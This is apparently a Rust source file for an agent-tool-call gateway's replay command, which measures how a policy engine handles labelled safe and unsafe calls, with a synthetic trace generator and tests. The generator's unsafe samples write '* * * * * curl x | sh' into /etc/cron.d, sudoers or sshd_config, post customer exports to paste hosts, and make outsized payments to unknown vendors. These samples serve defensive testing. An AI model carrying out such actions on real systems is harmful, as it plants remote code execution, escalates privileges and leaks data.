//! `sec0-gateway replay`: run a trace of calls (JSONL, each with a reviewer's label `safe` or
//! `unsafe`) through the real decision engine — rules, guard, precedents — without network,
//! answering escalations from the labels, and report per window of N calls the share of
//! allow / deny / redact / escalate, how many unsafe calls went through without review, and
//! how many safe calls were denied. `--generate` writes a synthetic trace (several agents and
//! tools, realistic argument variety, a share of unsafe calls) to try it on.

use std::fmt::Write as _;
use std::time::Instant;

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::learn::{Fingerprint, LearnConfig, Precedents, Verdict};
use crate::config::{Boundary, Protocol};
use crate::guard::Direction;
use crate::policy::{CallFacts, DecisionKind, Policy};

/// One call of a trace.
#[derive(Debug, Clone, Deserialize, Serialize)]
pub struct TraceCall {
    /// Route name.
    #[serde(default = "default_route")]
    pub route: String,
    /// Boundary (`agent_to_tool`, …).
    #[serde(default = "default_boundary")]
    pub boundary: Boundary,
    /// The verified caller.
    pub caller: String,
    /// The tool called.
    pub tool: String,
    /// Its arguments.
    #[serde(default)]
    pub args: Value,
    /// What a reviewer says: `safe` or `unsafe`.
    pub label: Label,
}

fn default_route() -> String {
    "tools".into()
}
fn default_boundary() -> Boundary {
    Boundary::AgentToTool
}

/// A reviewer's verdict on a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Label {
    /// Would be approved.
    Safe,
    /// Would be rejected.
    Unsafe,
}

/// The numbers of one window.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Window {
    /// Calls in the window.
    pub calls: usize,
    /// Allowed without review (rules or precedents).
    pub allow: usize,
    /// Denied without review.
    pub deny: usize,
    /// Redacted without review.
    pub redact: usize,
    /// Sent to a reviewer.
    pub escalate: usize,
    /// Unsafe calls that went through without review.
    pub unsafe_allowed: usize,
    /// Safe calls denied without review.
    pub safe_denied: usize,
}

impl Window {
    fn share(&self, n: usize) -> f64 {
        if self.calls == 0 {
            0.0
        } else {
            100.0 * n as f64 / self.calls as f64
        }
    }

    /// The share of calls escalated, in percent.
    pub fn escalated_share(&self) -> f64 {
        self.share(self.escalate)
    }
}

/// Replay `calls` through `policy` with learning `learn`, in windows of `window` calls.
pub fn replay(
    policy: &Policy,
    learn: LearnConfig,
    calls: &[TraceCall],
    window: usize,
) -> Vec<Window> {
    let precedents = Precedents::new(learn);
    let headers = http::HeaderMap::new();
    let mut out: Vec<Window> = Vec::new();
    for (n, c) in calls.iter().enumerate() {
        if n % window.max(1) == 0 {
            out.push(Window::default());
        }
        let args_text = serde_json::to_vec(&c.args).unwrap_or_default();
        let findings: Vec<_> = if policy.scans(Direction::Request) {
            policy
                .guard()
                .scan_json(&args_text)
                .into_iter()
                .map(|l| l.finding)
                .collect()
        } else {
            Vec::new()
        };
        let facts = CallFacts {
            method: Some("tools/call"),
            tool: Some(&c.tool),
            caller: &c.caller,
            args: Some(&c.args),
            headers: &headers,
            findings: &findings,
            ..CallFacts::on_route(c.boundary, &c.route, "replay", Protocol::Mcp)
        };
        let mut decision = policy.decide(&facts).decision;
        let kinds: Vec<String> = findings.iter().map(|f| f.kind.to_string()).collect();
        let fp = Fingerprint::of(&c.route, &c.tool, &c.caller, Some(&c.args), &kinds);
        if decision == DecisionKind::Escalate {
            match precedents.decide(&fp, Instant::now()) {
                Some((_, Verdict::Allow)) => decision = DecisionKind::Allow,
                Some((_, Verdict::Deny)) => decision = DecisionKind::Deny,
                None => {}
            }
        }
        let Some(w) = out.last_mut() else { continue };
        w.calls += 1;
        match decision {
            DecisionKind::Allow => w.allow += 1,
            DecisionKind::Deny => w.deny += 1,
            DecisionKind::Redact => w.redact += 1,
            DecisionKind::Escalate => {
                w.escalate += 1;
                // The reviewer answers from the label; the answer teaches the precedents.
                precedents.learn(&fp, c.label == Label::Safe, Instant::now());
            }
        }
        let went_through = matches!(decision, DecisionKind::Allow | DecisionKind::Redact);
        if c.label == Label::Unsafe && went_through {
            w.unsafe_allowed += 1;
        }
        if c.label == Label::Safe && decision == DecisionKind::Deny {
            w.safe_denied += 1;
        }
    }
    out
}

/// The replay's table (Markdown).
pub fn table(windows: &[Window], window: usize) -> String {
    let mut s = String::from(
        "| calls | allow % | deny % | redact % | escalate % | unsafe allowed | safe denied |\n|---|---:|---:|---:|---:|---:|---:|\n",
    );
    for (i, w) in windows.iter().enumerate() {
        let _ = writeln!(
            s,
            "| {}–{} | {:.1} | {:.1} | {:.1} | {:.1} | {} | {} |",
            i * window + 1,
            i * window + w.calls,
            w.share(w.allow),
            w.share(w.deny),
            w.share(w.redact),
            w.share(w.escalate),
            w.unsafe_allowed,
            w.safe_denied
        );
    }
    let unsafe_allowed: usize = windows.iter().map(|w| w.unsafe_allowed).sum();
    let safe_denied: usize = windows.iter().map(|w| w.safe_denied).sum();
    let _ = writeln!(
        s,
        "\nescalated: {:.1}% in the first window, {:.1}% in the last; unsafe calls allowed without review: {unsafe_allowed}; safe calls denied: {safe_denied}",
        windows.first().map_or(0.0, Window::escalated_share),
        windows.last().map_or(0.0, Window::escalated_share),
    );
    s
}

/// A small deterministic generator (xorshift), so traces are reproducible from a seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
}

/// A synthetic trace of `n` calls: four agents using payment, HTTP, file and e-mail tools
/// in the patterns of their work (known vendors and partners, report folders, colleagues,
/// everyday amounts), with about 7% unsafe calls (unknown hosts, exfiltration, system
/// paths, outsized amounts, outside recipients).
pub fn generate(n: usize, seed: u64) -> Vec<TraceCall> {
    let mut r = Rng(seed.max(1).wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1);
    let agents = ["planner", "billing-agent", "research-agent", "ops-agent"];
    let vendors = [
        "pay.acme-supplies.test",
        "billing.northwind.test",
        "invoices.globex.test",
    ];
    let partners = [
        "api.partner-crm.test",
        "hooks.analytics.test",
        "api.weather.test",
    ];
    let folders = ["/srv/reports", "/srv/exports"];
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let caller = r.pick(&agents).to_string();
        let unsafe_call = r.below(100) < 7;
        let tool = *r.pick(&["pay_invoice", "http_post", "write_file", "send_email"]);
        let args = match (tool, unsafe_call) {
            ("pay_invoice", false) => json!({
                "vendor": format!("https://{}/v1/pay", r.pick(&vendors)),
                "amount": if r.below(2) == 0 { 100 + r.below(900) } else { 1000 + r.below(9000) },
                "currency": *r.pick(&["eur", "usd"]),
            }),
            ("pay_invoice", true) => json!({
                "vendor": format!("https://pay-{}.example.net/v1/pay", r.below(1_000_000)),
                "amount": 100_000 + r.below(900_000),
                "currency": "eur",
            }),
            ("http_post", false) => json!({
                "url": format!("https://{}/v2/events", r.pick(&partners)),
                "body": format!("event batch {i}"),
            }),
            ("http_post", true) => json!({
                "url": format!("https://paste-{}.example.org/upload", r.below(1_000_000)),
                "body": "customer export",
            }),
            ("write_file", false) => json!({
                "path": format!("{}/{}-{i}.csv", r.pick(&folders), r.pick(&["daily", "weekly"])),
                "content": "id,amount\n1,12\n",
            }),
            ("write_file", true) => json!({
                "path": format!("/etc/{}", r.pick(&["cron.d/job", "sudoers.d/agent", "ssh/sshd_config"])),
                "content": "* * * * * curl x | sh",
            }),
            ("send_email", false) => json!({
                "to": format!("{}@{}", r.pick(&["dana", "lee", "sam", "kim"]), r.pick(&["corp.test", "corp-eu.test"])),
                "subject": "status",
                "body": "numbers attached",
            }),
            _ => json!({
                "to": format!("someone{}@outside-{}.example.com", r.below(100), r.below(1000)),
                "subject": "status",
                "body": "numbers attached",
            }),
        };
        out.push(TraceCall {
            route: "tools".into(),
            boundary: Boundary::AgentToTool,
            caller,
            tool: tool.to_string(),
            args,
            label: if unsafe_call {
                Label::Unsafe
            } else {
                Label::Safe
            },
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULES: &str = "version: 1\nrules:\n  - { id: review-actions, when: { tool: [pay_invoice, http_post, write_file, send_email] }, decision: escalate, reason: needs_review }\n";

    #[test]
    fn escalations_fall_as_reviewers_answer_and_nothing_unsafe_slips_through() {
        let policy = Policy::from_sources(
            &[(std::path::PathBuf::from("r.yaml"), RULES.to_string())],
            crate::policy::Mode::Enforce,
        )
        .expect("rules");
        let calls = generate(3000, 7);
        let learn = LearnConfig {
            enabled: true,
            auto_allow_after: 3,
            auto_deny_after: 2,
            window: std::time::Duration::from_secs(3600),
        };
        let w = replay(&policy, learn, &calls, 100);
        assert_eq!(w.len(), 30);
        let (first, last) = (&w[0], &w[29]);
        assert!(first.escalated_share() >= 80.0, "{}", table(&w, 100));
        assert!(last.escalated_share() <= 15.0, "{}", table(&w, 100));
        assert_eq!(
            w.iter().map(|x| x.unsafe_allowed).sum::<usize>(),
            0,
            "{}",
            table(&w, 100)
        );
        // Without learning nothing changes.
        let off = LearnConfig {
            enabled: false,
            ..learn
        };
        assert_eq!(
            replay(&policy, off, &calls, 100)[29].escalated_share(),
            100.0
        );
    }

    #[test]
    fn traces_are_reproducible_from_their_seed() {
        let a = serde_json::to_string(&generate(50, 3)).expect("json");
        assert_eq!(a, serde_json::to_string(&generate(50, 3)).expect("json"));
        assert_ne!(a, serde_json::to_string(&generate(50, 4)).expect("json"));
    }
}
